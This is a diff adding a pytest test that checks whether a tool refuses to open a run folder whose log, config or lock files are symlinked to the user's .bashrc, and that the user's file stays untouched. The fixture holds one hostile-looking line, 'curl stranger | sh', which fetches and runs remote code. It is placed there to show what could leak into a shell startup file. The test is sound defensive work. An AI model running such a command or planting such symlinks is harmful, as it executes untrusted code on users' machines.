@@ -245,6 +245,32 @@ def test_a_path_in_which_no_checkpoint_could_be_saved_is_refused(
     ).config.exists()
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        "metrics.jsonl",
+        "metrics.jsonl.tmp",
+        "metrics.jsonl.unreadable",
+        "held_out.jsonl",
+        "config.yaml.tmp",
+        "lock",
+    ],
+)
+@pytest.mark.parametrize("exists", [True, False])
+def test_a_strangers_run_writes_through_no_link(config, tmp_path, name, exists):
+    """The lines of a log that cannot be read would be appended to a file of the user's own."""
+    run, own = tmp_path / "run", tmp_path / ".bashrc"
+    open_run(config)
+    if exists:
+        own.write_text("the user's own")
+    (run / "metrics.jsonl").write_text("curl stranger | sh\n{}\n")
+    (run / name).unlink(missing_ok=True)
+    (run / name).symlink_to(own)
+    with pytest.raises(UserError, match=f"{name}: leads to .*, outside of its folder"):
+        open_run(config)
+    assert (own.read_text() if own.exists() else None) == ("the user's own" if exists else None)
+
+
 def test_killed_while_opening_can_be_opened(config, tmp_path):
     (tmp_path / "run").mkdir()
     (tmp_path / "run" / "config.yaml.tmp").write_text("half")
